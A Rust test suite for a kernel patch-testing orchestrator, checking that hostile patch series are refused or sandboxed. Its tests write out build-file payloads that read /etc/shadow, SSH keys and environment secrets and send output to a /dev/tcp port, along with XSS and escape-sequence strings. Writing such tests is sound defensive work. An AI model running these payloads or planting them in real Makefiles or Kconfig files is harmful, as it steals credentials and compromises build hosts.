//! A corpus of malicious series: what each tries is refused or contained, and it is in the report.
//!
//! The first test needs no kernel. The others configure and build a little of a real one (`make test`); they need the
//! tree that `real_kernel` imports.

#[expect(dead_code, reason = "only the base of the tree is used here")]
mod planted;

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use camino::Utf8Path;
use planted::tree::source;
use serde_json::Value;

/// Patches of `hostile/` and what the refusal of each must say.
const REFUSED: [(&str, &str); 17] = [
    ("binary", "binary file"),
    ("device-mode", "file mode `060000`"),
    ("link-absolute", "is absolute"),
    ("link-into-git", "git's own folder"),
    ("link-outside", "outside the tree"),
    ("link-then-file", "reached through the symlink mm/up"),
    ("long-line", "longer than 64 KiB"),
    ("names-disagree", "different files"),
    ("nul", "NUL"),
    ("path-absolute", "is absolute"),
    ("path-escape-sequence", "control character"),
    ("path-git-case", "git's own folder"),
    ("path-git-hook", "git's own folder"),
    ("path-git-quoted", "git's own folder"),
    ("path-git-short", "git's own folder"),
    ("path-parent", "outside the tree"),
    ("submodule", "submodule"),
];

fn repository() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap()
}

fn corpus() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/hostile")
}

#[test]
fn every_patch_of_the_corpus_is_refused_by_its_line() {
    let mut files: Vec<String> = std::fs::read_dir(corpus())
        .unwrap()
        .filter_map(|entry| entry.unwrap().file_name().into_string().unwrap().strip_suffix(".patch").map(str::to_owned))
        .collect();
    files.sort();
    assert_eq!(files, REFUSED.map(|(name, _)| name), "each file is in the table, and each line has its file");
    let home = orchestrator::config::Home::find(
        Some(Utf8Path::from_path(repository()).unwrap()),
        Utf8Path::new("/"),
        Utf8Path::new("/nonexistent"),
    )
    .unwrap();
    for (name, expected) in REFUSED {
        let path = camino::Utf8PathBuf::from_path_buf(corpus().join(format!("{name}.patch"))).unwrap();
        let source = orchestrator::series::SeriesSource::Mbox(path);
        let said = match orchestrator::series::load(&home, &source, None) {
            // What cannot even be read is not applied either.
            Err(error) => error.to_string(),
            Ok(series) => {
                let refusals = orchestrator::series::vet(&series).expect_err(name);
                assert!(refusals.iter().all(|refusal| refusal.line > 0 || refusal.what.contains("bytes")), "{name}");
                refusals.iter().map(|refusal| format!("{}: {}\n", refusal.line, refusal.what)).collect()
            }
        };
        assert!(said.contains(expected), "{name}: {said}");
        assert!(!said.chars().any(|c| c.is_control() && c != '\n'), "{name}: {said:?}");
    }
}

/// A run of the program on a series, its results in a folder of its own, the cache the user's.
fn run(folder: &Path, series: &Path, args: &[&str]) -> (i32, Value, String) {
    let results = folder.join("results");
    let output = Command::new(env!("CARGO_BIN_EXE_orchestrator"))
        .args(["run", "series", series.to_str().unwrap(), "--tree", "linux-6.12"])
        .args(args)
        .env("ORCHESTRATOR_RESULTS", &results)
        .env("ORCHESTRATOR_CANARY", "canary-in-the-environment")
        .current_dir(repository())
        .output()
        .unwrap();
    let latest = results.join("latest").canonicalize().unwrap();
    let report = serde_json::from_slice(&std::fs::read(latest.join("report.json")).unwrap()).unwrap();
    let mut all = String::from_utf8_lossy(&output.stdout).into_owned();
    // Everything that the run wrote: logs of builds, reports in every form.
    let mut folders = vec![latest];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            match path.is_dir() {
                true => folders.push(path),
                false => all.push_str(&String::from_utf8_lossy(&std::fs::read(path).unwrap())),
            }
        }
    }
    (output.status.code().expect("not killed"), report, all)
}

/// A new file needs no context, so that it applies to every tree.
fn new_file(path: &str, text: &str) -> String {
    let lines = text.lines().count();
    let added: String = text.lines().map(|line| format!("+{line}\n")).collect();
    format!(
        "diff --git a/{path} b/{path}\nnew file mode 100644\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1,{lines} @@\n{added}"
    )
}

fn mail(subject: &str, author: &str, diff: &str) -> String {
    format!(
        "From 0000000000000000000000000000000000000000 Mon Sep 17 00:00:00 2001\nFrom: {author}\n\
         Date: Thu, 1 Jan 2026 00:00:01 +0000\nSubject: [PATCH] {subject}\nMessage-ID: <x@example.org>\n\n\
         <script>alert(1)</script> \u{202e}evil\u{1b}[2J\n\nSigned-off-by: Mallory <mallory@example.org>\n---\n\n\
         {diff}-- \n2.40.0\n\n"
    )
}

/// Lines of a Kconfig file that try to read secrets, to call out and to write, and print what came of it.
fn spy(canary: &Path, port: u16) -> String {
    let shell = format!(
        "$(shell,(cat {} /etc/shadow /root/.ssh/id_* /proc/1/environ; echo x >/dev/tcp/127.0.0.1/{port}; \
         touch /usr/owned /var/owned) 2>&1 | tr '\\n\\0$' '   ')",
        canary.display()
    );
    format!("# SPDX-License-Identifier: GPL-2.0-only\nspy := {shell}\n$(warning-if,y,spy saw: $(spy))\n")
}

#[test]
#[ignore = "configures and builds a real kernel"]
fn a_kconfig_that_spies_finds_nothing_and_the_report_names_it() {
    let bench = tempfile::tempdir_in(repository().join("target")).unwrap();
    let canary = bench.path().join("secret");
    std::fs::write(&canary, "canary-on-the-disk").unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let old = source("mm/Kconfig.debug");
    let lines: Vec<&str> = old.lines().collect();
    let after: String = lines[1..4].iter().map(|line| format!(" {line}\n")).collect();
    let text = spy(&canary, listener.local_addr().unwrap().port());
    let added: String = text.lines().skip(1).map(|line| format!("+{line}\n")).collect();
    let diff = format!(
        "diff --git a/mm/Kconfig.debug b/mm/Kconfig.debug\n--- a/mm/Kconfig.debug\n+++ b/mm/Kconfig.debug\n\
         @@ -1,4 +1,6 @@\n {}\n{added}{after}{}",
        lines[0],
        new_file("mm/spy.c", "int spy;")
    );
    let series = bench.path().join("spy.mbox");
    let author = "\"<b>M</b>\u{202e}\" <mallory@example.org>";
    std::fs::write(&series, mail("mm: <img src=x onerror=alert(1)> @everyone fixes #1", author, &diff)).unwrap();
    let (code, report, all) = run(bench.path(), &series, &["--kconfig", "no-hmm-mirror", "--no-boot"]);
    let notes = report["trees"][0]["notes"].to_string();
    assert!(notes.contains("runs a program while the kernel is configured"), "code {code}: {notes}");
    assert!(notes.contains("mm/Kconfig.debug"), "{notes}");
    // It did run, and what it printed is in the log.
    assert!(all.contains("spy saw:"), "the attack must really have been made");
    for secret in ["canary-on-the-disk", "canary-in-the-environment", "root:*:", "root:$", "PRIVATE KEY"] {
        assert!(!all.contains(secret), "{secret} was seen");
    }
    assert!(listener.accept().is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock));
    assert!(!Path::new("/usr/owned").exists() && !Path::new("/var/owned").exists());
    let latest = bench.path().join("results/latest");
    let html = std::fs::read_to_string(latest.join("report.html")).unwrap();
    assert!(!html.contains("<img src=x") && !html.contains("<script>alert") && !html.contains("<b>M</b>"));
    assert!(!html.contains(['\u{1b}', '\u{202e}']));
    assert_eq!(report["run"]["host"]["sandboxed"], true, "this test says something only where the sandbox works");
}

/// A unified diff that puts lines into a file of the base, before line `at` (from 0).
fn inserted(path: &str, at: usize, text: &str) -> String {
    let old = source(path);
    let lines: Vec<&str> = old.lines().collect();
    let (first, last) = (at.saturating_sub(3), (at + 3).min(lines.len()));
    let kept = |lines: &[&str]| lines.iter().map(|line| format!(" {line}\n")).collect::<String>();
    let added: String = text.lines().map(|line| format!("+{line}\n")).collect();
    let (before, after) = (last - first, last - first + text.lines().count());
    format!(
        "diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -{0},{before} +{0},{after} @@\n{1}{added}{2}",
        first + 1,
        kept(&lines[first..at]),
        kept(&lines[at..last]),
    )
}

/// A series of one patch in a file of its own.
fn series(folder: &Path, name: &str, diff: &str) -> PathBuf {
    let path = folder.join(format!("{name}.mbox"));
    std::fs::write(&path, mail(name, "Mallory <mallory@example.org>", diff)).unwrap();
    path
}

/// A Makefile that reads secrets, calls out, writes into the host, leaves links and pipes in `O=`, and forks.
#[test]
#[ignore = "configures and builds a real kernel"]
fn a_makefile_that_spies_is_contained_and_what_it_left_is_named() {
    let bench = tempfile::tempdir_in(repository().join("target")).unwrap();
    let canary = bench.path().join("secret");
    std::fs::write(&canary, "canary-on-the-disk").unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let text = format!(
        "spied := $(shell (cat {0} /etc/shadow /root/.ssh/id_* /proc/1/environ; env; \
         (exec 3<>/dev/tcp/127.0.0.1/{port}); touch /usr/owned /var/owned; mount -t tmpfs x /mnt; \
         unshare -r true && echo namespaces: $$((6 * 7))) 2>&1 | tr '\\n\\000\\043$$' '    ')\n\
         $(warning spy saw: $(spied))\n\
         $(shell mkdir -p $(objtree)/mm; ln -sfn {0} $(objtree)/mm/stolen; mkfifo $(objtree)/mm/pipe)\n",
        canary.display()
    );
    let at = source("mm/Makefile").lines().position(|line| line.starts_with("KASAN_SANITIZE")).unwrap();
    let series = series(bench.path(), "makefile", &inserted("mm/Makefile", at, &text));
    let (code, report, all) = run(bench.path(), &series, &["--kconfig", "no-hmm-mirror", "--no-boot"]);
    let notes = report["trees"][0]["notes"].to_string();
    assert!(notes.contains("mm/Makefile"), "code {code}: {notes}");
    assert!(all.contains("spy saw:"), "the attack must really have been made");
    for secret in ["canary-on-the-disk", "canary-in-the-environment", "root:*:", "root:$", "PRIVATE KEY"] {
        assert!(!all.contains(secret), "{secret} was seen");
    }
    assert!(!all.contains("namespaces: 42"));
    assert!(listener.accept().is_err_and(|error| error.kind() == std::io::ErrorKind::WouldBlock));
    assert!(!Path::new("/usr/owned").exists() && !Path::new("/var/owned").exists());
    // A link out of the folder of the build spoils the build, and is named; it is no verdict on the patch.
    assert!(all.contains("mm/stolen") && all.contains("mm/pipe"), "what it left is named");
    assert_eq!(report["verdict"], "infra");
    assert_ne!(code, 0);
}

/// A series that adds these tests of `hostile/` to the kernel's.
fn tests_of(folder: &Path, name: &str) -> PathBuf {
    let path = "tools/testing/selftests/mm/hmm-tests.c";
    let at = source(path).lines().position(|line| line == "TEST_HARNESS_MAIN").unwrap();
    let text = std::fs::read_to_string(corpus().join(format!("{name}.c"))).unwrap();
    series(folder, name, &inserted(path, at, &text))
}

/// Tests that flood, fork, and print escape sequences, HTML and forged KTAP.
#[test]
#[ignore = "boots a real kernel"]
fn selftests_that_attack_change_no_result_but_their_own() {
    let bench = tempfile::tempdir_in(repository().join("target")).unwrap();
    let series = tests_of(bench.path(), "selftests");
    let (code, report, all) = run(bench.path(), &series, &["--kconfig", "hmm", "--no-bench"]);
    let rows = report["tests"][0]["rows"].as_array().unwrap();
    let change = |name: &str| {
        let row = rows.iter().find(|row| row["test"] == format!("hmm.global.{name}"));
        row.unwrap_or_else(|| panic!("code {code}: {name} is missing"))["change"].as_str().unwrap()
    };
    assert_eq!(change("attack_escapes"), "NEW-FAIL");
    assert_ne!(change("attack_ktap"), "NEW-PASS");
    assert_ne!(change("attack_forks"), "NEW-PASS");
    assert!(all.contains("attack_flood"));
    // The kernel's own tests are as without it.
    let old = rows.iter().filter(|row| row["change"] == "STILL-PASSING").count();
    assert_eq!(old, 52, "{rows:#?}");
    assert!(!report["tests"].to_string().contains("attack.everything"), "a forged result was believed");
    let latest = bench.path().join("results/latest");
    for file in ["report.html", "report.md"] {
        let text = std::fs::read_to_string(latest.join(file)).unwrap();
        assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{file}");
        // In Markdown it stands in a block of code, where it is nothing.
        assert!(file == "report.md" || !text.contains("<script>alert") && !text.contains("<img src=x"), "{file}");
    }
    assert_eq!(report["verdict"], "findings");
}

/// A test that replaces the agent's program, signals it, and sends frames in its name.
#[test]
#[ignore = "boots a real kernel"]
fn a_selftest_that_speaks_for_the_agent_is_not_believed() {
    let bench = tempfile::tempdir_in(repository().join("target")).unwrap();
    let series = tests_of(bench.path(), "agent");
    let (code, report, all) = run(bench.path(), &series, &["--kconfig", "hmm", "--no-bench"]);
    assert!(all.contains("frames were lost or forged"), "code {code}: the attack must really have been made");
    assert_ne!(report["verdict"], "clean");
    assert_ne!(code, 0);
}
